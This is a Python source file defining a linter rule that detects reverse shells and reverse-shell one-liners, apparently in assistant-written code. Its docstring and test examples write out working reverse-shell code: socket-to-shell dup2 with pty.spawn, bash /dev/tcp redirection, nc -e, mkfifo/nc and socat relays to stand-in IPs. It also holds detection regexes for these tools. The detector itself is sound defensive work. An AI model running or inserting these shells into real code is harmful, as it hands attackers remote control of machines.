"""reverse-shell: a network socket wired to a shell, or a reverse-shell one-liner.

**What it finds.** DW801, within one function:

- a socket made in the function (`socket.socket(...)` then `.connect(...)`,
  `socket.create_connection(...)`, or a connection from `.accept()`) whose file descriptor is
  duplicated onto standard input, output or error: `os.dup2(s.fileno(), 0)` (also through a name
  holding `s.fileno()`, onto `sys.stdout.fileno()`, or in a loop over `(0, 1, 2)`);
- `pty.spawn("/bin/sh")` (or `bash`, `sh`, any shell) after such a connection;
- `subprocess.Popen` / `run` / `call` with `stdin=`, `stdout=` or `stderr=` a socket made in the
  function (`s`, `s.fileno()`, `s.makefile()`);
- the classic one-liners in a command given to `subprocess`, `os.system`, `os.popen`, `pty.spawn`,
  `exec` and kin: `bash -i >& /dev/tcp/HOST/PORT 0>&1`, other `/dev/tcp/` redirections onto a
  shell, `nc -e /bin/sh` (also `ncat` / `netcat`, `-c`, `--exec`, `--sh-exec`), a `mkfifo`
  pipe relayed through `nc`, `socat ... exec:` / `system:`, `python -c 'import socket,...dup2'`
  and the Perl, PHP, Ruby and PowerShell equivalents. The same text anywhere else in a string
  literal (not a docstring) is reported too, at high severity.

One finding per function: the first hand-over is reported, the rest of the same shell is not.

**Why it matters in assistant-written code.** A reverse shell is the attacker's goal in one
line: the machine calls out (through firewalls that only stop incoming connections) and hands a
shell to whoever listens. A coding agent steered by a poisoned prompt or dependency can tuck one
into a "health check" or a test fixture, where a skimmed diff will not notice it.

**Severity.** Critical (high confidence) for a socket handed to a shell and for a one-liner given
to a process call; high (medium confidence) for a one-liner that only sits in a string.

**Bad**

```python
s = socket.create_connection((HOST, 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
```

**Good**

```python
with socket.create_connection((host, port), timeout=5) as s:
    s.sendall(request)
    reply = s.recv(4096)
```

**Not flagged.** A normal socket client or server (`connect`, `sendall`, `recv`, `accept`);
`os.dup2(fd, 1)` in a daemon redirecting output to a log file (the descriptor comes from `open`
or `os.open`); `os.dup2(conn.fileno(), 0)` on a parameter (not known to be a socket: inetd-style
servers do this); an unconnected `socket.socketpair()` in a test; `pty.spawn` with no connection
in the function (DW103 reports it, low); `nc -z host port` (a port check) and `nc -l`;
`/dev/tcp/` used for a health check without a shell reading it (`exec 3<>/dev/tcp/host/80`);
the one-liners in docstrings.

**Fix.** None automatic. Remove the code; remote administration belongs to SSH, not to the
application.

**References.** CWE-506 (embedded malicious code); MITRE ATT&CK T1059.004 (Unix shell), T1571;
no bandit or ruff counterpart (bandit B605 / ruff S605 only see a shell being started).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Dict, List, Optional, Set, Tuple

from hooks import _paths, _process
from hooks.engine.lazy import cst
from hooks.engine.rule import Bad, Confidence, Ok, OptionValue, Rule, Severity
from hooks.engine.lazyre import lazy_re

if TYPE_CHECKING:
    from hooks.engine.context import RuleContext

SOCKET_MAKERS = {"socket.socket": False, "socket.create_connection": True}
WRAPPERS = frozenset({"ssl.wrap_socket"})
STANDARD_STREAMS = frozenset({"sys.stdin", "sys.stdout", "sys.stderr"})
STREAM_KEYWORDS = ("stdin", "stdout", "stderr")
PROCESS_STARTERS = frozenset({*_process.SUBPROCESS, "asyncio.create_subprocess_exec"})
# calls whose string arguments run as code or commands
CODE_RUNNERS = frozenset({"builtins.exec", "builtins.eval"})
SHELL = r"(?:/usr)?(?:/bin/)?(?:ba|z|k|da|c|tc)?sh\b"
ONE_LINERS: Tuple[Tuple["re.Pattern[str]", str], ...] = tuple(
    (lazy_re(pattern, re.IGNORECASE | re.DOTALL), what)
    for pattern, what in (
        (
            r"\b(?:ba|z|k|da)?sh\s+-i\s*\d*[<>]&?\s*/dev/(?:tcp|udp)/",
            "a shell redirected to /dev/tcp (`bash -i >& /dev/tcp/...`)",
        ),
        (
            r"/dev/(?:tcp|udp)/[^\n]*?(?:\b0\s*>\s*&\s*1\b|\b0\s*<\s*&\s*\d|"
            r"\b(?:ba|z|k|da)?sh\b[^;|\n]*<\s*&\s*\d)",
            "a shell wired to /dev/tcp",
        ),
        (
            r"\b(?:nc|ncat|netcat)(?:\.traditional|\.openbsd|\.exe)?\b[^|;&\n]*\s(?:-[a-z]*[ec]"
            r"\s*\S*" + SHELL + r"|-[a-z]*[ec]\s*\S*(?:cmd|powershell)(?:\.exe)?\b"
            r"|--(?:sh-)?exec\b)",
            "a netcat shell (`nc -e /bin/sh`)",
        ),
        (
            r"\bmkfifo\b[^\n]*?\|\s*(?:\S*/)?(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b",
            "a shell relayed through a named pipe and netcat (`mkfifo ...; nc`)",
        ),
        (r"\bsocat\b[^\n]*?\b(?:exec|system):", "a socat relay into a program (`socat ... exec:`)"),
        (
            r"\bimport\s+(?:[\w ,]*\b)?socket\b.*?\.connect\(.*?(?:\bdup2\(|\bpty\.spawn\("
            r"|\bsubprocess\.(?:call|Popen|run)\()",
            "a Python reverse shell",
        ),
        (r"\bperl\b.*?\bSocket\b.*?\bexec\b.*?" + SHELL, "a Perl reverse shell"),
        (r"\bfsockopen\(.*?" + SHELL, "a PHP reverse shell"),
        (r"\bruby\b.*?-rsocket\b.*?" + SHELL, "a Ruby reverse shell"),
        (
            r"Net\.Sockets\.TCPClient\b.*?GetStream\(.*?(?:iex|Invoke-Expression)\b",
            "a PowerShell reverse shell",
        ),
    )
)


@dataclass
class _Frame:
    """The sockets of one function, and whether it was already reported."""

    sockets: Dict[str, bool] = field(default_factory=dict)  # name -> connected
    fds: Set[str] = field(default_factory=set)  # names holding a connected socket's fileno()
    std_fds: Set[str] = field(default_factory=set)  # loop names over 0, 1, 2
    connected: bool = False
    reported: bool = False


def _one_liner(text: str) -> Optional[str]:
    for pattern, what in ONE_LINERS:
        if pattern.search(text):
            return what
    return None


def _docstring(body: object) -> Optional[cst.CSTNode]:
    """The docstring node of a module, class or function body, if it has one."""
    statements = getattr(body, "body", ())
    if not statements or not isinstance(statements[0], cst.SimpleStatementLine):
        return None
    first = statements[0].body[0] if statements[0].body else None
    if isinstance(first, cst.Expr) and isinstance(
        first.value, (cst.SimpleString, cst.ConcatenatedString)
    ):
        return first.value
    return None


class ReverseShell(Rule):
    code = "DW801"
    name = "reverse-shell"
    summary = "A network socket is wired to a shell, or a reverse-shell one-liner is run."
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    cwe = (506,)
    message = "{subject} {action}"
    hint = "remove it: a shell handed to a remote host is a backdoor"
    triggers = (
        "dup2", "socket", "tcp", "udp", "nc", "ncat", "netcat", "mkfifo", "socat", "fsockopen",
        "TCPClient", "rsocket",
    )  # fmt: skip
    examples = (
        Bad(
            "import os\nimport pty\nimport socket\n\ndef connect_back(host, port):\n"
            "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
            "    s.connect((host, port))\n"
            "    os.dup2(s.fileno(), 0)\n    os.dup2(s.fileno(), 1)\n"
            "    os.dup2(s.fileno(), 2)\n    pty.spawn('/bin/bash')\n",
            ((8, 5),),
            why="one finding per function: the first hand-over",
        ),
        Bad(
            "import os\nimport socket\nimport subprocess\n\n"
            "s = socket.create_connection(('198.51.100.7', 4444))\nfd = s.fileno()\n"
            "for n in (0, 1, 2):\n    os.dup2(fd, n)\nsubprocess.call(['/bin/sh', '-i'])\n",
            ((8, 5),),
            why="through a name holding fileno(), in a loop over the standard descriptors",
        ),
        Bad(
            "import socket\nimport subprocess\n\ndef helper(addr):\n"
            "    sock = socket.create_connection(addr)\n"
            "    subprocess.Popen(['/bin/sh', '-i'], stdin=sock, stdout=sock, stderr=sock)\n",
            ((6, 5),),
        ),
        Bad(
            "import pty\nimport socket\n\ndef debug_session(host):\n"
            "    with socket.create_connection((host, 9001)) as conn:\n"
            "        pty.spawn('bash')\n",
            ((6, 9),),
            why="pty.spawn after a connection",
        ),
        Bad(
            "import subprocess\n\ndef check(host):\n"
            "    subprocess.Popen(f'bash -i >& /dev/tcp/{host}/4444 0>&1', shell=True)\n",
            ((4, 5),),
        ),
        Bad(
            "import os\n\nos.system('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc "
            "10.0.0.1 4242 >/tmp/f')\n",
            ((3, 1),),
        ),
        Bad(
            "import subprocess\n\nPAYLOAD = 'nc -e /bin/sh 203.0.113.5 9001'\n"
            "subprocess.run(['sh', '-c', PAYLOAD])\n",
            ((4, 1),),
            why="through a module constant: reported at the call, once",
        ),
        Bad(
            "import socket\nimport os\n\ndef bind_shell(port):\n"
            "    srv = socket.socket()\n    srv.bind(('0.0.0.0', port))\n    srv.listen(1)\n"
            "    conn, _ = srv.accept()\n    os.dup2(conn.fileno(), 0)\n"
            "    os.execv('/bin/sh', ['sh'])\n",
            ((9, 5),),
            why="a bind shell: the connection comes from accept()",
        ),
        Bad(
            "STAGE2 = \"python3 -c 'import socket,subprocess,os;s=socket.socket();"
            's.connect((\\"10.0.0.1\\",1234));os.dup2(s.fileno(),0)\'"\n',
            ((1, 10),),
            severity=Severity.HIGH,
            why="a one-liner that only sits in a string",
        ),
        Bad(
            "import subprocess\n\n"
            "subprocess.run(['socat', 'tcp-connect:203.0.113.5:4444',\n"
            "                'exec:/bin/bash,pty,stderr'])\n",
            ((3, 1),),
        ),
        Ok(
            "import socket\n\ndef fetch(host, port, request):\n"
            "    with socket.create_connection((host, port), timeout=5) as s:\n"
            "        s.sendall(request)\n        return s.recv(65536)\n",
            why="a normal socket client",
        ),
        Ok(
            "import os\nimport sys\n\ndef daemonize(log_path):\n    if os.fork():\n"
            "        sys.exit(0)\n    os.setsid()\n"
            "    fd = os.open(log_path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)\n"
            "    os.dup2(fd, 1)\n    os.dup2(fd, 2)\n"
            "    with open(os.devnull) as null:\n        os.dup2(null.fileno(), 0)\n",
            why="a daemonizer redirecting to a log file",
        ),
        Ok(
            "import pty\n\ndef shell():\n    pty.spawn('/bin/bash')\n",
            why="pty.spawn without a socket (DW103, low)",
        ),
        Ok(
            "import subprocess\n\ndef port_open(host, port):\n"
            "    return subprocess.run(['nc', '-z', '-w', '2', host, str(port)]).returncode == 0\n",
            why="a port check",
        ),
        Ok(
            "import os\nimport socket\n\ndef test_reads_stdin(run):\n"
            "    a, b = socket.socketpair()\n    os.dup2(a.fileno(), 0)\n"
            "    b.sendall(b'yes\\n')\n    assert run() == 'yes'\n",
            why="a test with an unconnected socket pair",
        ),
        Ok(
            "import socketserver\n\nclass Echo(socketserver.StreamRequestHandler):\n"
            "    def handle(self):\n        self.wfile.write(self.rfile.readline())\n",
            why="a server",
        ),
        Ok(
            "import os\n\ndef serve_inetd(conn):\n"
            "    os.dup2(conn.fileno(), 0)\n    os.dup2(conn.fileno(), 1)\n",
            why="a parameter: not known to be a socket",
        ),
        Ok(
            "import subprocess\n\ndef healthcheck(host):\n"
            "    script = (f'exec 3<>/dev/tcp/{host}/80; '\n"
            "              'echo -e \"GET / HTTP/1.0\\\\n\" >&3; cat <&3')\n"
            "    return subprocess.run(['bash', '-c', script], capture_output=True)\n",
            why="/dev/tcp as an HTTP client, no shell reading it",
        ),
        Ok(
            '"""Detects reverse shells such as `bash -i >& /dev/tcp/host/port 0>&1`."""\n\n'
            "import socket\n",
            why="a docstring",
        ),
        Ok(
            "import socket\nimport subprocess\n\ndef run(cmd, log):\n"
            "    s = socket.socket()\n    s.connect(('127.0.0.1', 9000))\n"
            "    subprocess.run(cmd, stdout=log, stderr=subprocess.STDOUT)\n    s.close()\n",
            why="a socket in the function, but the process writes to a log",
        ),
    )

    def __init__(self, ctx: RuleContext, options: Dict[str, OptionValue]) -> None:
        super().__init__(ctx, options)
        self.frames: List[_Frame] = []
        self.literals: List[Tuple[cst.CSTNode, str]] = []  # one-liners in strings
        self.consumed: Set[int] = set()  # ids of strings given to a process call
        self.docstrings: Set[int] = set()
        self.concatenations: List[cst.ConcatenatedString] = []

    # frames

    def visit_Module(self, node: cst.Module) -> None:
        self.frames.append(_Frame())
        self._note_docstring(node)

    def leave_Module(self, node: cst.Module) -> None:
        self.frames.pop()
        for literal, what in self.literals:
            if id(literal) not in self.consumed:
                self.report(
                    literal,
                    severity=Severity.HIGH,
                    confidence=Confidence.MEDIUM,
                    subject="a string",
                    action=f"holds {what}",
                )

    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
        self.frames.append(_Frame())
        self._note_docstring(node.body)

    def leave_FunctionDef(self, node: cst.FunctionDef) -> None:
        self.frames.pop()

    def visit_ClassDef(self, node: cst.ClassDef) -> None:
        self._note_docstring(node.body)

    def _note_docstring(self, body: object) -> None:
        found = _docstring(body)
        if found is not None:
            self.docstrings.add(id(found))

    # sockets

    def visit_Assign(self, node: cst.Assign) -> None:
        for target in node.targets:
            self._bind(target.target, node.value)

    def visit_WithItem(self, node: cst.WithItem) -> None:
        if node.asname is not None:
            self._bind(node.asname.name, node.item)

    def visit_For(self, node: cst.For) -> None:
        if isinstance(node.target, cst.Name) and self._standard_fds(node.iter):
            self.frames[-1].std_fds.add(node.target.value)

    def _bind(self, target: cst.BaseExpression, value: cst.BaseExpression) -> None:
        frame = self.frames[-1]
        if isinstance(target, (cst.Tuple, cst.List)) and target.elements:
            first = target.elements[0].value
            if isinstance(first, cst.Name) and self._accepted(value):
                frame.sockets[first.value] = True  # conn, addr = server.accept()
                frame.connected = True
            return
        if not isinstance(target, cst.Name):
            return
        made = self._socket(value)
        if made is not None:
            frame.sockets[target.value] = made
            frame.connected = frame.connected or made
        elif self._socket_fd(value):
            frame.fds.add(target.value)

    def _socket(self, node: cst.BaseExpression) -> Optional[bool]:
        """Whether `node` makes a connected socket; None when it makes no socket."""
        if not isinstance(node, cst.Call):
            return None
        func = self.ctx.resolve(node.func)
        if func in SOCKET_MAKERS:
            return SOCKET_MAKERS[func]
        wraps = func in WRAPPERS or (
            func is None
            and isinstance(node.func, cst.Attribute)
            and node.func.attr.value == "wrap_socket"
        )
        if wraps and node.args and isinstance(node.args[0].value, cst.Name):
            return self.frames[-1].sockets.get(node.args[0].value.value)
        return None

    def _accepted(self, node: cst.BaseExpression) -> bool:
        """`server.accept()` on a socket made in this function."""
        return (
            isinstance(node, cst.Call)
            and isinstance(node.func, cst.Attribute)
            and node.func.attr.value == "accept"
            and isinstance(node.func.value, cst.Name)
            and node.func.value.value in self.frames[-1].sockets
        )

    def _socket_fd(self, node: cst.BaseExpression, connected: bool = True) -> bool:
        """`s.fileno()` of a (connected) socket of this function, or a name holding one."""
        frame = self.frames[-1]
        if isinstance(node, cst.Name):
            return node.value in frame.fds
        if not (isinstance(node, cst.Call) and isinstance(node.func, cst.Attribute)):
            return False
        owner = node.func.value
        if node.func.attr.value != "fileno" or not isinstance(owner, cst.Name):
            return False
        state = frame.sockets.get(owner.value)
        return state is not None and (state or not connected)

    def _standard_fds(self, node: cst.BaseExpression) -> bool:
        """`(0, 1, 2)`, `[0, 1]`, `range(3)`."""
        if isinstance(node, (cst.Tuple, cst.List)):
            return bool(node.elements) and all(self._standard_fd(el.value) for el in node.elements)
        if isinstance(node, cst.Call) and self.ctx.resolve(node.func) == "builtins.range":
            return len(node.args) == 1 and isinstance(node.args[0].value, cst.Integer)
        return False

    def _standard_fd(self, node: cst.BaseExpression) -> bool:
        """0, 1, 2, `sys.stdout.fileno()`, or a loop name over them."""
        if isinstance(node, cst.Integer):
            return node.value in ("0", "1", "2")
        if isinstance(node, cst.Name):
            return node.value in self.frames[-1].std_fds
        if isinstance(node, cst.Call) and isinstance(node.func, cst.Attribute):
            return (
                node.func.attr.value == "fileno"
                and self.ctx.resolve(node.func.value) in STANDARD_STREAMS
            )
        return False

    # hand-overs

    def visit_Call(self, node: cst.Call) -> None:
        func = self.ctx.resolve(node.func)
        if func is None:
            self._connect(node)
            return
        if func == "os.dup2":
            self._dup2(node)
        elif func == "pty.spawn" and self.frames[-1].connected:
            argv = self.ctx.argument(node, 0, "argv")
            text = _paths.render(self.ctx, argv.value) if argv is not None else ""
            if argv is not None and isinstance(argv.value, (cst.List, cst.Tuple)):
                first = argv.value.elements[0].value if argv.value.elements else argv.value
                text = _paths.render(self.ctx, first)
            if _process.SHELLS.match(text):
                self._hand_over(node, func, "starts a shell after a socket connection")
        if func in PROCESS_STARTERS:
            self._streams(node, func)
        if func in _process.RUNNERS or func in CODE_RUNNERS:
            self._command(node, func)

    def _connect(self, node: cst.Call) -> None:
        func = node.func
        if not (isinstance(func, cst.Attribute) and isinstance(func.value, cst.Name)):
            return
        frame = self.frames[-1]
        if func.attr.value in ("connect", "connect_ex") and func.value.value in frame.sockets:
            frame.sockets[func.value.value] = True
            frame.connected = True

    def _dup2(self, node: cst.Call) -> None:
        source, target = self.ctx.argument(node, 0, "fd"), self.ctx.argument(node, 1, "fd2")
        if source is None or target is None:
            return
        if self._socket_fd(source.value) and self._standard_fd(target.value):
            self._hand_over(node, "os.dup2", "puts a connected socket on a standard stream")

    def _streams(self, node: cst.Call, func: str) -> None:
        for keyword in STREAM_KEYWORDS:
            arg = self.ctx.argument(node, None, keyword)
            if arg is not None and self._is_socket_stream(arg.value):
                self._hand_over(node, func, f"gives a process a socket as {keyword}")
                return

    def _is_socket_stream(self, node: cst.BaseExpression) -> bool:
        if isinstance(node, cst.Name) and node.value in self.frames[-1].sockets:
            return True
        if isinstance(node, cst.Call) and isinstance(node.func, cst.Attribute):
            owner = node.func.value
            if node.func.attr.value == "makefile" and isinstance(owner, cst.Name):
                return owner.value in self.frames[-1].sockets
        return self._socket_fd(node, connected=False)

    def _hand_over(self, node: cst.Call, func: str, action: str) -> None:
        frame = self.frames[-1]
        if not frame.reported:
            frame.reported = True
            self.report(node, subject=f"`{func}`", action=action)

    def _command(self, node: cst.Call, func: str) -> None:
        if func in CODE_RUNNERS:
            arg = self.ctx.argument(node, 0, "source")
            found = _process.Command([arg.value], True) if arg is not None else None
        else:
            found = _process.command(self.ctx, node, func)
        if found is None:
            return
        what = _one_liner(_process.text(self.ctx, found))
        if what is None:
            return
        for part in found.parts:
            self.consumed.add(id(_process.single_value(self.ctx, part)))
        self.report(node, subject=f"`{func.replace('builtins.', '')}`", action=f"runs {what}")

    # one-liners in strings

    def visit_SimpleString(self, node: cst.SimpleString) -> None:
        if not self.concatenations:
            self._literal(node)

    def visit_FormattedString(self, node: cst.FormattedString) -> None:
        if not self.concatenations:
            self._literal(node)

    def visit_ConcatenatedString(self, node: cst.ConcatenatedString) -> None:
        if not self.concatenations:
            self._literal(node)
        self.concatenations.append(node)

    def leave_ConcatenatedString(self, node: cst.ConcatenatedString) -> None:
        self.concatenations.pop()

    def _literal(self, node: cst.BaseExpression) -> None:
        if id(node) in self.docstrings:
            return
        what = _one_liner(_paths.render(self.ctx, node))
        if what is not None:
            self.literals.append((node, what))
